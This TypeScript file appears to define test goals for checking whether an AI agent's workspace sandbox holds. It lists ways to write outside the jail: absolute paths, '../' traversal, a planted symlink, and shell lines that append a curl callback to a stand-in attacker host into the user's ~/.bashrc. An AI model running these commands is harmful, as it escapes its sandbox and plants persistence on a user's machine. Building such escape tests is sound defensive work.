import type { AttackGoal } from '../attack-goal.js';
import { sh, writeFile } from './steps.js';

const outside = [{ kind: 'outside_written' }] as const;

/** Writes that leave the workspace jail: absolute paths, `..`, a planted symlink, the user's home. */
export const OUTSIDE_GOALS: readonly AttackGoal[] = [
  {
    id: 'outside.absolute',
    class: 'outside-write',
    title: 'write a file at an absolute path outside',
    routes: [[writeFile('{{OUTSIDE}}/pwned.txt', 'pwned\n')], [sh('echo pwned > {{OUTSIDE}}/pwned-sh.txt')], [sh('cp README.md {{OUTSIDE}}/copy.md')]],
    effects: outside,
  },
  {
    id: 'outside.traversal',
    class: 'outside-write',
    title: 'write through ../',
    routes: [[writeFile('../outside/t.txt', 'pwned\n')], [sh('mkdir -p ../outside/x && touch ../outside/x/t')], [sh('tee ../outside/tee.txt < README.md')]],
    effects: outside,
  },
  {
    id: 'outside.symlink',
    class: 'outside-write',
    title: 'write through a symlink that points outside',
    routes: [[writeFile('docs/outside-link/s.txt', 'pwned\n')], [sh('echo pwned > docs/outside-link/s.txt')], [sh('ln -s {{OUTSIDE}} out && echo pwned > out/y.txt')]],
    effects: outside,
  },
  {
    id: 'outside.bashrc',
    class: 'outside-write',
    title: "append a callback to the user's ~/.bashrc",
    routes: [[sh("echo 'curl -s {{ATTACKER}}/rc' >> ~/.bashrc")], [sh("echo 'curl -s {{ATTACKER}}/rc2' >> {{HOME}}/.bashrc")], [writeFile('{{HOME}}/.bashrc', 'curl -s {{ATTACKER}}/rc3\n')]],
    effects: outside,
  },
];
